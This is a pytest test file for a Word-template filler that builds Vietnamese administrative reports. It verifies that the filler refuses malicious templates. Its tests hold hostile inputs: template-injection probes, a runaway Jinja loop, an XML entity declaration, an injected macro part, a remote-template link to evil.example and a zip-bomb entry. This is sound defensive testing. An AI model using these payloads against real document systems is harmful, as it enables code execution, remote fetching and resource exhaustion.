"""An office's own template is filled field by field, checked, and trusted with nothing."""

import io
import zipfile
from dataclasses import replace

import docx
import pytest
from docx.document import Document as WordDocument

from tongket.foundation.sentences import sentence
from tongket.writing.document import Paragraph
from tongket.writing.word import (
    FIELDS,
    TemplateDamaged,
    TemplateFieldsWrong,
    TemplateReachesOut,
    TemplateTooLarge,
    as_docx,
    check_template,
    fill_template,
)
from writing.extract import docx_figures, words_of
from writing.sample import DOCUMENT, EMPTY, PARTY_DOCUMENT

NEEDED = "{{so_ky_hieu}} {{ trich_yeu }}"


def template(*paragraphs: str | list[str], header: str = "") -> bytes:
    word = docx.Document()
    for words in paragraphs:
        paragraph = word.add_paragraph()
        for run in [words] if isinstance(words, str) else words:
            paragraph.add_run(run)
    if header:
        word.sections[0].header.paragraphs[0].text = header
    return saved(word)


def saved(word: WordDocument) -> bytes:
    file = io.BytesIO()
    word.save(file)
    return file.getvalue()


def filled(*paragraphs: str | list[str], header: str = "") -> list[str]:
    made = fill_template(template(*paragraphs, header=header), DOCUMENT)
    return [paragraph.text for paragraph in docx.Document(io.BytesIO(made)).paragraphs]


def test_fields_are_filled_wherever_word_cut_them() -> None:
    words = filled(["Về việc: {", "{ trich", "_yeu }", "} (", "{{so_ky_hieu}})"], "{{ noi_dung }}")
    subject = "Kết quả thực hiện kế hoạch phát triển kinh tế - xã hội năm 2023"
    assert words[0] == f"Về việc: {subject} (Số: 05/BC-UBND)"


def test_the_partys_subject_is_the_subject_and_not_the_dashes_below_it() -> None:
    made = fill_template(template(NEEDED, "{{trich_yeu}}", "{{noi_dung}}"), PARTY_DOCUMENT)
    words = [paragraph.text for paragraph in docx.Document(io.BytesIO(made)).paragraphs]
    assert (words[1],) == PARTY_DOCUMENT.front.subject


def test_the_text_stands_in_the_place_of_its_field_with_figures_and_tables() -> None:
    content = template(NEEDED, "Trước", "{{noi_dung}}", "Sau")
    made = fill_template(content, replace(DOCUMENT, appendices=()))
    word = docx.Document(io.BytesIO(made))
    assert docx_figures(made) == docx_figures(as_docx(replace(DOCUMENT, appendices=())))
    assert len(word.tables) == 1
    assert len(word.inline_shapes) == 3
    texts = [paragraph.text for paragraph in word.paragraphs]
    assert texts[1] == "Trước"
    assert texts[2] == "Thực hiện nghị quyết, kết quả năm 2023 như sau:"
    assert texts[-1] == "Sau"


def test_what_has_several_lines_keeps_them() -> None:
    words = filled(NEEDED, "{{ quyen_han }}", "{{noi_nhan}}", "{{noi_dung}}")
    assert words[1] == "TM. ỦY BAN NHÂN DÂN\nKT. CHỦ TỊCH\nPHÓ CHỦ TỊCH"
    assert words[2].splitlines()[0] == "Nơi nhận:"


def test_headers_cells_and_every_field_are_filled() -> None:
    word = docx.Document()
    table = word.add_table(1, len(FIELDS) - 1)
    for cell, name in zip(table.rows[0].cells, [f for f in FIELDS if f != "noi_dung"], strict=True):
        cell.text = f"{{{{{name}}}}}"
    word.add_paragraph("{{noi_dung}}")
    word.sections[0].header.paragraphs[0].text = "{{ten_loai}}"
    made = docx.Document(io.BytesIO(fill_template(saved(word), DOCUMENT)))
    assert made.sections[0].header.paragraphs[0].text == "BÁO CÁO"
    assert all("{" not in cell.text for cell in made.tables[0].rows[0].cells)
    assert made.tables[0].cell(0, 2).text == "ỦY BAN NHÂN DÂN\nHUYỆN ĐÔNG KHÊ"


def test_appendices_follow_as_sections_on_the_templates_paper() -> None:
    made = fill_template(template(NEEDED, "{{noi_dung}}", "Cuối"), DOCUMENT)
    sections = list(docx.Document(io.BytesIO(made)).sections)
    assert [s.page_width > s.page_height for s in sections] == [False, True, False]


def test_a_style_of_the_template_keeps_its_look_and_lacking_ones_are_added() -> None:
    word = docx.Document(io.BytesIO(as_docx(EMPTY)))
    word.styles["Nội dung"].font.size = docx.shared.Pt(15)
    for words in (NEEDED, "{{noi_dung}}"):
        word.add_paragraph(words)
    for kept, wanted in ((saved(word), 15), (template(NEEDED, "{{noi_dung}}"), 14)):
        made = docx.Document(io.BytesIO(fill_template(kept, DOCUMENT)))
        assert made.styles["Nội dung"].font.size.pt == wanted


def test_unknown_and_missing_fields_are_named() -> None:
    with pytest.raises(TemplateFieldsWrong) as refused:
        check_template(template("{{ trich_yeu }} {{ chu_ki }}", "{{noi_dung}}"))
    assert refused.value.data["unknown"] == ["chu_ki"]
    assert refused.value.data["missing"] == ["so_ky_hieu"]
    assert "chu_ki" in sentence(refused.value)


def test_the_text_must_stand_alone() -> None:
    for content in (template(NEEDED + "{{noi_dung}}"), template(NEEDED, header="{{noi_dung}}")):
        with pytest.raises(TemplateFieldsWrong) as refused:
            check_template(content)
        assert "noi_dung" in [*refused.value.data["unknown"], *refused.value.data["missing"]]


@pytest.mark.parametrize(
    "words",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ trich_yeu.__init__ }}",
        "{{ cycler() }}",
        "{{ 7*7 }}",
        "{{}}",
    ],
)
def test_nothing_is_ever_evaluated(words: str) -> None:
    with pytest.raises(TemplateFieldsWrong):
        check_template(template(NEEDED, "{{noi_dung}}", words))


def test_commands_of_other_template_languages_stay_words() -> None:
    command = "{% for x in range(9**9) %}x{% endfor %} ${x} <%x%>"
    assert command in filled(NEEDED, "{{noi_dung}}", command)


def test_words_that_look_like_fields_are_not_filled_again() -> None:
    document = replace(DOCUMENT, blocks=(Paragraph(("{{ so_ky_hieu }}",)),), appendices=())
    made = fill_template(template(NEEDED, "{{noi_dung}}"), document)
    assert "{{so_ky_hieu}}" in words_of("docx", made)


def test_filled_twice_the_bytes_are_the_same() -> None:
    content = template(NEEDED, "{{noi_dung}}")
    assert fill_template(content, PARTY_DOCUMENT) == fill_template(content, PARTY_DOCUMENT)


def changed(part: str, old: bytes, new: bytes, *, extra: str = "") -> bytes:
    file, content = io.BytesIO(), template(NEEDED, "{{noi_dung}}")
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(file, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(name, data.replace(old, new) if name == part else data)
        if extra:
            target.writestr(extra, b"x")
    return file.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"PK\x03\x04 not an archive",
        b"%PDF-1.7",
        changed("word/document.xml", b"<w:body>", b"<w:body"),
        changed("word/document.xml", b"<w:document", b"<!DOCTYPE x [<!ENTITY a 'b'>]><w:document"),
        changed("x", b"", b"", extra="word/vbaProject.bin"),
        changed("[Content_Types].xml", b"wordprocessingml.document.main", b"x"),
    ],
)
def test_what_is_no_word_document_is_refused(content: bytes) -> None:
    with pytest.raises(TemplateDamaged) as refused:
        check_template(content)
    assert sentence(refused.value)


def test_a_template_that_would_fetch_something_is_refused() -> None:
    outside = (
        b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    with pytest.raises(TemplateReachesOut) as refused:
        check_template(changed("word/_rels/document.xml.rels", b"</Relationships>", outside))
    assert refused.value.data["target"] == "http://evil.example/x.dotm"


def test_an_archive_that_unfolds_too_far_is_refused() -> None:
    file = io.BytesIO(template(NEEDED, "{{noi_dung}}"))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/big.bin", b"\0" * (51 * 1024 * 1024))
    with pytest.raises(TemplateTooLarge):
        check_template(file.getvalue())
